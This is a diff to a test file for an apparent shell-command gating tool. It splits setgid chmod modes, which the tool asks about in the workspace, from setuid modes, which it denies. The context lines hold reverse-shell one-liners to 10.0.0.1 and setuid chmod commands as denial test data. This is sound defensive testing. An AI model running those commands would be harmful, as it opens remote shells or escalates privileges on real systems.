@@ -56,7 +56,6 @@ from clawgate.validators.deletes import RecursiveDeleteOfVitalPath
     ("chgrp -R users ~", "CG-CAT-006"),
     ("chmod u+s /tmp/sh", "CG-CAT-007"),
     ("chmod 4755 ./tool", "CG-CAT-007"),
-    ("chmod g+s,o-w bin/tool", "CG-CAT-007"),
     ("chmod +s bin/tool", "CG-CAT-007"),
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "CG-CAT-008"),
     ("sh < /dev/udp/10.0.0.1/53", "CG-CAT-008"),
@@ -193,9 +192,20 @@ def test_disk_formatting_stays_denied(program: str, flags: list[str], device: st
 
 @settings(max_examples=60, deadline=None)
 @given(program=st.sampled_from(["chmod", "/bin/chmod", "/usr/bin/chmod"]),
-       mode=st.sampled_from(["u+s", "g+s", "+s", "4755", "2755", "6777", "a+rs", "u=rwxs"]),
+       mode=st.sampled_from(["u+s", "+s", "4755", "6777", "a+rs", "u=rwxs", "g+s,u+s"]),
        recursive=st.sampled_from([[], ["-R"], ["--recursive"], ["-Rv"]]))
 def test_setuid_stays_denied(program: str, mode: str, recursive: list[str]) -> None:
     outcome, rules = decide(" ".join([program, *recursive, mode, "./tool"]))
     assert outcome is Outcome.DENY
     assert "CG-CAT-007" in rules
+
+
+@settings(max_examples=30, deadline=None)
+@given(mode=st.sampled_from(["g+s", "2755", "g=rwxs", "g+s,o-w"]),
+       target=st.sampled_from(["./tool", "bin/tool", "build"]))
+def test_setgid_in_the_workspace_asks(mode: str, target: str) -> None:
+    """The setgid bit alone lends a group (on a directory: new files inherit it)."""
+    outcome, rules = decide(f"chmod {mode} {target}")
+    assert outcome is Outcome.ASK
+    assert "CG-CAT-007" in rules
+    assert decide(f"chmod {mode} /usr/local/bin/tool")[0] is Outcome.DENY
